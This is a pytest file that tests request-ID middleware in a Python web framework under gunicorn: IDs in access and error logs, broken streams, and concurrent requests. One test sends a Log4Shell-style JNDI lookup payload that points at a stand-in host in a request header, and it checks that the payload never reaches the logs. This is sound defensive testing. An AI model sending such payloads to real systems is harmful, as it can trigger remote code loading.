"""RequestIDMiddleware under a real gunicorn (sync and gthread workers).

The id of a failing request is in gunicorn's access log line (its response
header, ``%({x-request-id}o)s``) and in Roob's error log line, which goes to
gunicorn's error log when the application configures no logging: for an
exception in the view, and for a stream that breaks while the server sends it
(logged after the application returned). Under gthread, concurrent requests
whose lines interleave each keep their own id.
"""

from __future__ import annotations

import concurrent.futures
import contextlib
import http.client
import re
import sys
import textwrap
import time

import pytest

from tests.servers import ServerProcess, free_port

APP = textwrap.dedent("""
    import time

    from roob import RequestIDMiddleware, Response, Roob

    app = Roob(static_dir=None)

    @app.get("/")
    def index(request):
        return {"id": request.id}

    @app.get("/boom/{n:int}")
    def boom(request, n):
        time.sleep(0.05)  # under gthread, the requests overlap here
        raise RuntimeError(f"view {n} broke")

    @app.get("/stream-breaks/{n:int}")
    def stream_breaks(request, n):
        def chunks():
            yield b"partial"
            time.sleep(0.05)
            raise RuntimeError(f"stream {n} broke")

        return Response(app_iter=chunks(), content_type="text/plain")

    app.add_middleware(RequestIDMiddleware, trust_incoming=True)
""")
ACCESS_FORMAT = 'access "%(r)s" %(s)s rid=%({x-request-id}o)s'


@pytest.fixture(scope="module", params=["sync", "gthread"])
def server(request, tmp_path_factory):
    folder = tmp_path_factory.mktemp(f"request-id-{request.param}")
    (folder / "ids_app.py").write_text(APP)
    port = free_port()
    command = [
        sys.executable, "-m", "gunicorn", "--bind", f"127.0.0.1:{port}",
        "--workers", "1", "--worker-class", request.param,
        "--threads", "8" if request.param == "gthread" else "1",  # sync with 8 is gthread
        "--chdir", str(folder), "--no-control-socket",
        "--access-logfile", "-", "--access-logformat", ACCESS_FORMAT,
        "ids_app:app",
    ]  # fmt: skip
    with ServerProcess(command, port=port, log=folder / "gunicorn.log") as running:
        running.worker = request.param
        yield running


def _lines_with(server, text: str, count: int) -> list[str]:
    """The log lines holding ``text``, once there are ``count`` (gunicorn writes them a
    moment after the answer)."""
    deadline = time.monotonic() + 10
    while True:
        found = [line for line in server.output.splitlines() if text in line]
        if len(found) >= count or time.monotonic() > deadline:
            return found
        time.sleep(0.05)


def test_a_trusted_id_is_in_the_access_and_error_lines_of_a_failing_request(server):
    request_id = f"edge-{server.worker}-1"
    response, _ = server.request("GET", "/boom/1", headers={"X-Request-ID": request_id})
    assert response.status == 500
    assert response.getheader("X-Request-ID") == request_id
    [access] = _lines_with(server, '"GET /boom/1 HTTP/1.1"', 1)
    assert access.endswith(f"500 rid={request_id}")
    [error] = _lines_with(server, "Unhandled exception: GET /boom/1", 1)
    assert re.search(rf"\[ERROR\] \[request_id={request_id}\] Unhandled exception", error)


def test_a_made_id_is_in_both_lines_and_a_hostile_one_nowhere(server):
    hostile = "${jndi:ldap://evil.example/a}"
    response, _ = server.request("GET", "/boom/2", headers={"X-Request-ID": hostile})
    request_id = response.getheader("X-Request-ID")
    assert re.fullmatch(r"[0-9a-f]{32}", request_id)
    [access] = _lines_with(server, '"GET /boom/2 HTTP/1.1"', 1)
    assert access.endswith(f"500 rid={request_id}")
    assert _lines_with(server, f"[request_id={request_id}] Unhandled exception: GET /boom/2", 1)
    assert "jndi" not in server.output


def test_a_stream_broken_while_sent_is_logged_with_its_id(server):
    request_id = f"stream-{server.worker}-3"
    with pytest.raises(http.client.IncompleteRead):  # the server aborted it
        server.request("GET", "/stream-breaks/3", headers={"X-Request-ID": request_id})
    [error] = _lines_with(
        server, "Error after the response started, connection aborted: GET /stream-breaks/3", 1
    )
    assert f"[request_id={request_id}]" in error


def test_concurrent_requests_keep_their_own_ids(server):
    # Under gthread, 8 at a time: their views and streams overlap in one process.
    def fail(n: int) -> str:
        kind = "boom" if n % 2 else "stream-breaks"
        with contextlib.suppress(http.client.IncompleteRead):  # a stream, aborted
            server.request("GET", f"/{kind}/{100 + n}", headers={"X-Request-ID": f"many-{n}"})
        return kind

    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        kinds = list(pool.map(fail, range(16)))
    messages = {
        "boom": "Unhandled exception",
        "stream-breaks": "Error after the response started, connection aborted",
    }
    for n, kind in enumerate(kinds):
        [line] = _lines_with(server, f"{messages[kind]}: GET /{kind}/{100 + n}", 1)
        assert f"[request_id=many-{n}]" in line, line
